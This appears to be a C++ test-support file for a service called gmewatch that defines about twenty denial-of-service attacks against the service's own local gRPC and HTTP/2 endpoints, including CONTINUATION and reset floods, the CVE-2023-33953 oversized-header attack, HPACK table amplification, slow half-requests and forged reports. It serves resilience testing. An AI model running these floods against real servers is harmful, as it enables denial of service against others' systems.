#include "tests/support/attacks.h"

#include <functional>
#include <memory>
#include <utility>

#include "absl/strings/str_cat.h"
#include "absl/strings/string_view.h"
#include "absl/time/time.h"
#include "tests/support/connect_client.h"
#include "tests/support/http_client.h"
#include "tests/support/raw_http2.h"
#include "tests/support/wire_client.h"

namespace gmewatch {
namespace {

// Who does not read the answers soon has no room for more; such an attacker begins again.
constexpr absl::Duration kPatience = absl::Milliseconds(200);
constexpr int kCode = 1005;
// What a sender may send before it has read a WINDOW_UPDATE.
constexpr size_t kWindow = 65'535;

std::string Source(const AttackRun& run, int number = 0) {
  return run.source == 0 ? "" : absl::StrCat("127.0.", run.source + number, ".1");
}

// Connects again and again: `attack` sends on a new connection until it cannot.
void OnConnections(AttackRun* run, const std::function<void(RawHttp2* stranger)>& attack) {
  while (!*run->stop) {
    RawHttp2 stranger(run->grpc, Source(*run));
    if (!stranger.connected()) continue;
    stranger.SetPatience(kPatience);
    attack(&stranger);
  }
}

// Frames without an end, 64 KiB at a time.
void Flood(AttackRun* run, RawHttp2::Type type, uint8_t flags, uint32_t stream,
           const std::string& payload, bool in_call) {
  OnConnections(run, [&](RawHttp2* stranger) {
    if (in_call) {
      stranger->Frame(RawHttp2::kHeaders, type == RawHttp2::kContinuation ? 0 : 4, 1,
                      RawHttp2::CallHeaders(kReportPath));
    }
    do {
      for (size_t sent = 0; sent < 65'536; sent += payload.size() + 9) {
        stranger->Frame(type, flags, stream, payload);
      }
    } while (!*run->stop && stranger->Flush());
  });
}

void BeginCalls(AttackRun* run, uint32_t calls,
                const std::function<void(RawHttp2* stranger, uint32_t stream)>& more) {
  std::vector<std::unique_ptr<RawHttp2>> strangers;
  while (!*run->stop) {
    if (strangers.size() == 20) strangers.clear();
    strangers.push_back(std::make_unique<RawHttp2>(run->grpc, Source(*run)));
    if (!strangers.back()->connected()) continue;
    strangers.back()->SetPatience(kPatience);
    for (uint32_t call = 0; call < calls && !*run->stop; ++call) {
      strangers.back()->Call(2 * call + 1, kReportPath);
      more(strangers.back().get(), 2 * call + 1);
      if (call % 100 == 99 && !strangers.back()->Flush()) break;
    }
  }
}

// The attackers' own work alone, to compare with.
void Nothing(AttackRun* run) {
  while (!*run->stop) {
  }
}

void CallsWithoutAMessage(AttackRun* run) {
  BeginCalls(run, 1000, [](RawHttp2*, uint32_t) {});
}

void HalfMessages(AttackRun* run) {
  BeginCalls(run, 200, [](RawHttp2* stranger, uint32_t stream) {
    stranger->BeginMessage(stream, 300'000, 300);
  });
}

void CallsResetAtOnce(AttackRun* run) {
  BeginCalls(run, 100'000, [](RawHttp2* stranger, uint32_t stream) {
    stranger->Frame(RawHttp2::kReset, 0, stream, absl::string_view("\0\0\0\10", 4));
  });
}

void HeadersWithoutAnEnd(AttackRun* run) {
  std::string fields;
  for (int i = 0; i < 3276; ++i) fields += RawHttp2::Header("a", "1");
  Flood(run, RawHttp2::kContinuation, 0, 1, fields, true);
}

void EmptyContinuations(AttackRun* run) { Flood(run, RawHttp2::kContinuation, 0, 1, "", true); }

// CVE-2023-33953.
void OneHeaderOfAGigabyte(AttackRun* run) {
  const std::string piece(16'384, 'x');
  OnConnections(run, [&](RawHttp2* stranger) {
    // A literal with a name of one byte and a value whose length is a varint.
    stranger->Frame(
        RawHttp2::kHeaders, 0, 1,
        RawHttp2::CallHeaders(kReportPath) + std::string("\0\1a\x7f\x81\xff\xff\xff\3", 9));
    do {
      stranger->Frame(RawHttp2::kContinuation, 0, 1, piece);
    } while (!*run->stop && stranger->Flush());
  });
}

// One entry of the dynamic table, named again and again.
void NamesOfOneLongHeader(AttackRun* run) {
  std::string first = RawHttp2::CallHeaders(kReportPath);
  first += std::string("\x40\1b\x7f\xbd\x1d", 6) + std::string(3900, 'y');  // 127 + 3773
  const std::string again(16'000, '\xbe');
  OnConnections(run, [&](RawHttp2* stranger) {
    stranger->Frame(RawHttp2::kHeaders, 0, 1, first);
    stranger->Frame(RawHttp2::kContinuation, RawHttp2::kEndHeaders, 1, again);
    for (uint32_t stream = 3; !*run->stop && stranger->Flush() && stream < 2000; stream += 2) {
      stranger->Frame(RawHttp2::kHeaders, RawHttp2::kEndHeaders, stream, again);
    }
  });
}

void Pings(AttackRun* run) { Flood(run, RawHttp2::kPing, 0, 0, std::string(8, 'p'), false); }
void Settings(AttackRun* run) {
  Flood(run, RawHttp2::kSettings, 0, 0, std::string("\0\1\0\0\20\0", 6), false);
}
void WindowUpdates(AttackRun* run) {
  Flood(run, RawHttp2::kWindowUpdate, 0, 1, std::string("\0\0\0\1", 4), true);
}
void Priorities(AttackRun* run) {
  Flood(run, RawHttp2::kPriority, 0, 3, std::string("\0\0\0\0\20", 5), false);
}
void EmptyData(AttackRun* run) { Flood(run, RawHttp2::kData, 0, 1, "", true); }

// Streams of the bad app with thousands of batches that break a rule; no answer is read.
void RejectedBatchesInAStream(AttackRun* run) {
  const std::string headers =
      RawHttp2::CallHeaders(kReportStreamPath) + RawHttp2::Header("authorization", run->key);
  const std::string first = MakeRequest(MakeSession("bad", "eu"), 1, {}).SerializeAsString();
  std::string messages = std::string("\0\0\0\0", 4) + static_cast<char>(first.size()) + first;
  while (messages.size() < kWindow - 5) messages += std::string(5, '\0');  // without a sequence
  OnConnections(run, [&](RawHttp2* stranger) {
    stranger->Frame(RawHttp2::kHeaders, RawHttp2::kEndHeaders, 1, headers);
    for (size_t at = 0; at < messages.size(); at += 16'384) {
      stranger->Frame(RawHttp2::kData, 0, 1, absl::string_view(messages).substr(at, 16'384));
    }
    if (stranger->Flush()) stranger->AwaitClose(kPatience);
  });
}

// Reports of the bad app, one after the other, each made by `make`.
void Report(AttackRun* run, const std::string& key,
            const std::function<v1::ReportRequest(uint64_t number)>& make) {
  ConnectClient client(run->connect, ConnectClient::Form::kProto, Source(*run));
  for (uint64_t number = 1; !*run->stop; ++number) {
    const v1::ReportRequest request = make(number);
    uint64_t events = 0;
    for (const uint32_t count : request.counts()) events += count;
    run->sent += events;
    if (client.Report(request, nullptr, key).ok()) run->acknowledged += events;
  }
}

void ReportsWithoutAKey(AttackRun* run) {
  Report(run, "Bearer made-up-key", [](uint64_t) {
    return MakeRequest(MakeSession("bad", "eu"), 1, {{kCode, 1'000'000}});
  });
}

// The largest counts, in a new session for every hundred batches.
void ForgedCounts(AttackRun* run) {
  v1::Session session;
  Report(run, run->key, [&session](uint64_t number) {
    if (number % 100 == 1) session = MakeSession("bad", "eu");
    return MakeRequest(session, number, {{kCode, 1'000'000}});
  });
}

void MadeUpSessions(AttackRun* run) {
  Report(run, run->key, [](uint64_t) {
    return MakeRequest(MakeSession("bad", "eu"), 1, {{kCode, 1}});
  });
}

// Codes, versions and details that nobody has seen, and as many codes as a batch may have.
void MadeUpTexts(AttackRun* run) {
  Report(run, run->key, [](uint64_t number) {
    v1::Session session = MakeSession("bad", "eu");
    session.set_app_version(absl::StrCat("made up ", number, " ", session.id().size()));
    session.set_platform(absl::StrCat("none ", number));
    std::vector<std::pair<int32_t, uint32_t>> counts;
    counts.reserve(512);
    for (int32_t i = 0; i < 512; ++i) {
      counts.emplace_back(70'000 + static_cast<int32_t>(number % 2000) * 512 + i, 1);
    }
    v1::ReportRequest request = MakeRequest(session, 1, counts);
    for (int i = 0; i < 16; ++i) {
      v1::ErrorDetail* detail = request.add_details();
      detail->set_code(request.codes(i));
      detail->set_operation(absl::StrCat("operation ", number, " ", i));
    }
    return request;
  });
}

// From eight addresses, as many as the front lets one have, and more.
void MuteConnections(AttackRun* run) {
  std::vector<std::unique_ptr<HttpConnection>> mute;
  for (int number = 0; !*run->stop; ++number) {
    if (mute.size() == 1500) mute.clear();
    mute.push_back(std::make_unique<HttpConnection>(run->grpc, 0, Source(*run, number % 8)));
  }
}

void ConnectionsOfAMoment(AttackRun* run) {
  for (int number = 0; !*run->stop; ++number) {
    const HttpConnection moment(run->grpc, 0, Source(*run, number % 8));
  }
}

// Thirty readers that send half a request, and scrapes without a pause.
void ReadersOfTheAdminPort(AttackRun* run) {
  std::vector<std::unique_ptr<HttpConnection>> slow;
  slow.reserve(30);
  for (int i = 0; i < 30; ++i) {
    slow.push_back(std::make_unique<HttpConnection>(run->admin, 4096));
    slow.back()->Send("GET /metrics HTTP/1.1\r\nHost: ");
  }
  while (!*run->stop) {
    const auto reply = HttpFetch(run->admin, "/metrics");
    if (!reply.ok()) slow.clear();
  }
}

}  // namespace

const std::vector<Attack>& Attacks() {
  static const auto* const attacks = new std::vector<Attack>{
      {"nothing but work", Nothing},
      {"calls without a message", CallsWithoutAMessage},
      {"half messages", HalfMessages},
      {"calls reset at once", CallsResetAtOnce, /*needs_front=*/true},
      {"headers without an end", HeadersWithoutAnEnd, /*needs_front=*/true},
      {"empty continuations", EmptyContinuations, /*needs_front=*/true},
      {"one header of a gigabyte", OneHeaderOfAGigabyte, /*needs_front=*/true},
      {"one long header, named often", NamesOfOneLongHeader},
      {"pings", Pings},
      {"settings", Settings},
      {"window updates", WindowUpdates},
      {"priorities", Priorities},
      {"empty data", EmptyData},
      {"rejected batches in streams", RejectedBatchesInAStream},
      {"reports without a key", ReportsWithoutAKey},
      {"forged counts", ForgedCounts},
      {"made-up sessions", MadeUpSessions},
      {"made-up codes and texts", MadeUpTexts},
      {"mute connections", MuteConnections},
      {"connections of a moment", ConnectionsOfAMoment},
      {"readers of the admin port", ReadersOfTheAdminPort},
  };
  return *attacks;
}

}  // namespace gmewatch
